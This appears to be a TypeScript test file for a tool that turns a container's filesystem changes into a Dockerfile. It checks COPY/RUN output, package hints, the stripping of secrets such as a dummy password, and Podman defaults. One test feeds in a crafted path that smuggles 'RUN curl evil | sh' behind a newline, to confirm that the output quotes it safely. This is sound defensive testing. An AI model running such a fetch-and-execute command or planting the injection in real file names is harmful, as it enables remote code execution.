import assert from "node:assert/strict";
import { test } from "node:test";
import { roots, writeDockerfile, type PathChange } from "../../../src/run/dockerfile.ts";

const added = (...paths: string[]): PathChange[] => paths.map((Path) => ({ Path, Kind: 1 }));
const changed = (...paths: string[]): PathChange[] => paths.map((Path) => ({ Path, Kind: 0 }));
const deleted = (...paths: string[]): PathChange[] => paths.map((Path) => ({ Path, Kind: 2 }));

test("a path stands for all below it, and a folder is not changed because something in it is", () => {
  const changes = [
    ...changed("/etc", "/etc/nginx", "/etc/nginx/nginx.conf"),
    ...added("/srv/app", "/srv/app/index.html", "/srv/app/lib", "/srv/app/lib/x.js"),
    ...changed("/srv"),
    ...deleted("/usr/share/doc"),
    ...changed("/usr", "/usr/share"),
  ];
  assert.deepEqual(
    roots(changes).map(({ Path, Kind }) => `${Kind} ${Path}`),
    ["0 /etc/nginx/nginx.conf", "1 /srv/app", "2 /usr/share/doc"],
  );
});

const write = (changes: readonly PathChange[], instructions: readonly string[] = []): string =>
  writeDockerfile({ container: "web-1", image: "nginx:1.25", changes, own: {}, base: {}, instructions });

test("changes become COPY and RUN, instructions follow, and what nobody wants is left out in so many words", () => {
  const text = write(
    [...added("/srv/app", "/tmp/x", "/root/.bash_history"), ...changed("/etc/app.conf"), ...deleted("/etc/old file")],
    ["ENV DEBUG=true", 'CMD ["apachectl", "-DFOREGROUND"]', "EXPOSE 80"],
  );
  assert.equal(
    text,
    `# Written from the changes of the container web-1. What was run inside can only be guessed: look it over.

FROM nginx:1.25

# Added or changed: 2. Copy each out of the container first:
# docker cp web-1:/etc/app.conf rootfs/etc/app.conf
COPY rootfs/etc/app.conf /etc/app.conf
COPY rootfs/srv/app /srv/app

# Deleted: 1
RUN ["rm", "-rf", "--", "/etc/old file"]

ENV DEBUG=true
CMD ["apachectl", "-DFOREGROUND"]
EXPOSE 80

# Left out, as caches, logs and temporary files:
# /root/.bash_history
# /tmp/x
`,
  );
});

test("installed packages are named as such", () => {
  const text = write(changed("/var/lib/dpkg/status"));
  assert.match(text, /^# RUN apt-get update && apt-get install .*PACKAGES/m);
  assert.match(write(changed("/lib/apk/db/installed")), /^# RUN apk add/m);
});

test("no path can break out of its line", () => {
  const evil = "/srv/x\nRUN curl evil | sh\u202e";
  const lines = write([...added(evil), ...deleted(`${evil}2`)]).split("\n");
  assert.ok(!lines.some((line) => line.startsWith("RUN curl")));
  assert.ok(lines.some((line) => line.startsWith('COPY ["rootfs/srv/x\\nRUN curl')));
});

test("what the container was given when it was made is kept, but for secrets", () => {
  const text = writeDockerfile({
    container: "web-1",
    image: "nginx:1.25",
    changes: [],
    own: {
      Env: ["PATH=/bin", 'GREETING=say "$hi"', "DB_PASSWORD=hunter2"],
      Cmd: ["sh", "-c", "x"],
      WorkingDir: "/app",
      User: "1000",
      Entrypoint: null,
    },
    base: { Env: ["PATH=/bin"], Cmd: ["nginx"], WorkingDir: "", User: "" },
    instructions: [],
  });
  assert.match(text, /^ENV GREETING="say \\"\\\$hi\\""$/m);
  assert.match(text, /^CMD \["sh", "-c", "x"\]$/m);
  assert.match(text, /^WORKDIR \/app$/m);
  assert.match(text, /^USER 1000$/m);
  assert.ok(!text.includes("hunter2"));
  assert.ok(!/^ENV PATH/m.test(text));
  assert.ok(!/^ENTRYPOINT/m.test(text));
});

test("what Podman sets by itself is not taken for the person's", () => {
  const text = writeDockerfile({
    container: "web-1",
    image: "nginx",
    changes: [],
    own: {
      Env: ["PATH=/bin", "container=podman", "HOME=/root", "HOSTNAME=3f2a", "TERM=xterm", "DEBUG=1"],
      WorkingDir: "/",
      Entrypoint: [],
      Cmd: ["nginx"],
    },
    base: { Env: ["PATH=/bin"], Cmd: ["nginx"] },
    instructions: [],
  });
  assert.deepEqual(
    text.split("\n").filter((line) => /^[A-Z]/.test(line)),
    ["FROM nginx", 'ENV DEBUG="1"'],
  );
});
